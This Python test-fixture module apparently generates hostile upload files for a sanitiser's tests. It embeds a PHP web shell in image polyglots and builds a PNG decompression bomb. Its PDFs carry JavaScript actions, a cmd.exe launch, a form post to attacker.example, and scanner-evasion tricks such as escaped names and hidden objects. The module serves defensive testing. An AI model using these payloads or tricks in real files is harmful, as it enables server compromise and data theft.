"""Attachment files for the upload tests: photos with GPS metadata and glued-on payloads, decompression bombs,
broken images, and PDFs with each kind of active content (built with pypdf's writer, or byte by byte where a
writer would normalise the trick away: ``#xx`` name escapes, compressed object streams, objects outside the
cross-reference table)."""

import io
import struct
import zlib

from PIL import Image, ImageCms
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

GPS_LATITUDE = (27.0, 49.0, 30.5)  # 株洲, as a phone writes it into EXIF
PAYLOAD = b"<?php system($_GET['c']); ?>PK\x03\x04polyglot"
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description GPSLatitude="27,49.5N"/></x:xmpmeta>'


def photo_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "PhoneModel X"  # Model
    if orientation:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", GPS_LATITUDE  # GPSLatitudeRef, GPSLatitude
    gps[3], gps[4] = "E", (113.0, 8.0, 2.0)  # GPSLongitudeRef, GPSLongitude
    return exif


def jpeg_with_metadata(*, size=(40, 20), orientation: int | None = None, trailer: bytes = PAYLOAD) -> bytes:
    """A phone photo: EXIF with GPS and orientation, XMP, an sRGB ICC profile, a comment, then ``trailer``
    appended after the end-of-image marker (a polyglot)."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (0, 0, size[0] // 2, size[1]))  # left half blue: shows the rotation
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(
        out, "JPEG", exif=photo_exif(orientation), xmp=XMP, icc_profile=icc, comment=b"secret comment", quality=95
    )
    return out.getvalue() + trailer


def png_with_metadata(*, trailer: bytes = PAYLOAD) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    image = Image.new("RGBA", (16, 16), (0, 128, 0, 128))
    info = PngInfo()
    info.add_text("Comment", "住址：建设路12号")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=photo_exif())
    return out.getvalue() + trailer


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width=20_000, height=20_000) -> bytes:
    """A few hundred bytes whose header promises 400 million pixels (1.2 GB once decoded)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (width * 3 + 1) * 4, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    image = Image.effect_noise((64, 64), 60).convert("RGB")
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95)
    data = out.getvalue()
    return data[: len(data) // 2]


CORRUPT_PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


# PDFs written with pypdf ----------------------------------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def clean_pdf() -> bytes:
    """A plain page with a link to a web address and the usual /OpenAction that shows page 1: nothing active."""
    writer = _writer()
    page = writer.pages[0]
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    _annotate(writer, {"/S": NameObject("/URI"), "/URI": TextStringObject("https://www.zhuzhou.gov.cn/JS/index.html")})
    return _written(writer)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _annotate(writer: PdfWriter, action: dict | None = None, *, subtype="/Link", **entries) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([NumberObject(10), NumberObject(10), NumberObject(200), NumberObject(40)]),
        }
    )
    if action is not None:
        annotation[NameObject("/A")] = DictionaryObject({NameObject(k): v for k, v in action.items()})
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_document_javascript() -> bytes:  # /Names /JavaScript: runs when the document opens
    writer = _writer()
    writer.add_open_action(JavaScript("app.alert('x');"))
    return _written(writer)


def pdf_open_action_javascript() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(JavaScript("this.exportDataObject();"))
    return _written(writer)


def pdf_page_additional_action() -> bytes:  # /AA of a page: runs when the page opens
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): JavaScript("app.launchURL('x');")})
    return _written(writer)


def pdf_link_launch() -> bytes:
    writer = _writer()
    _annotate(writer, _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")))
    return _written(writer)


def pdf_link_submit_form() -> bytes:
    writer = _writer()
    _annotate(writer, _action("/SubmitForm", F=TextStringObject("http://attacker.example/collect")))
    return _written(writer)


def pdf_import_data() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action("/ImportData", F=TextStringObject("data.fdf"))
    return _written(writer)


def pdf_goto_embedded() -> bytes:
    writer = _writer()
    target = DictionaryObject({NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("a.pdf")})
    _annotate(writer, _action("/GoToE", T=target))
    return _written(writer)


def pdf_embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not a document")
    return _written(writer)


def pdf_rich_media() -> bytes:
    writer = _writer()
    _annotate(writer, subtype="/RichMedia", RichMediaContent=DictionaryObject())
    return _written(writer)


def pdf_xfa_form() -> bytes:
    writer = _writer()
    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )
    return _written(writer)


def pdf_encrypted() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="owner-secret")  # opens without a password; still encrypted
    return _written(writer)


# PDFs written byte by byte -------------------------------------------------------------------------------------

PAGE_OBJECTS = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def build_pdf(objects: dict[int, bytes], *, compressed: dict[int, bytes] | None = None, hidden: bytes = b"") -> bytes:
    """A PDF of ``objects`` (number → body) with object 1 as its catalog. ``compressed`` objects go into a
    Flate-compressed object stream, listed by a cross-reference stream (PDF 1.5); ``hidden`` is written into
    the file without any cross-reference entry."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += hidden
    if not compressed:
        start = len(out)
        size = max(offsets) + 1
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, size))
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
        return bytes(out)
    stream_number = max([*objects, *compressed]) + 1
    bodies, header = b"", b""
    for number, body in sorted(compressed.items()):
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    data = zlib.compress(header + bodies)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number,
        len(compressed),
        len(header),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b"\x00" + b"\x00\x00\x00\x00" + b"\xff\xff"
    index = {n: i for i, n in enumerate(sorted(compressed))}
    for number in range(1, xref_number + 1):
        if number in compressed:
            rows += b"\x02" + struct.pack(">I", stream_number) + struct.pack(">H", index[number])
        else:
            rows += b"\x01" + struct.pack(">I", offsets[number]) + b"\x00\x00"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def pdf_escaped_names() -> bytes:
    """/OpenAction << /S /JavaScript /JS … >> with every forbidden name spelt in #xx escapes."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    action = b"<< /Type /Action /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>"
    return build_pdf({**PAGE_OBJECTS, 1: catalog, 4: action})


def pdf_object_stream(action: bytes = b"<< /S /Launch /F (cmd.exe) >>") -> bytes:
    """The page's /AA action sits, compressed, in an object stream: its names are not in the file's bytes."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>"
    return build_pdf({1: PAGE_OBJECTS[1], 2: PAGE_OBJECTS[2]}, compressed={3: page, 4: action})


def pdf_clean_object_stream() -> bytes:
    return build_pdf({1: PAGE_OBJECTS[1], 2: PAGE_OBJECTS[2]}, compressed={3: PAGE_OBJECTS[3]})


def pdf_object_outside_xref() -> bytes:
    """An action object no cross-reference entry lists: a viewer that rebuilds the table finds it."""
    hidden = b"9 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    return build_pdf(PAGE_OBJECTS, hidden=hidden)
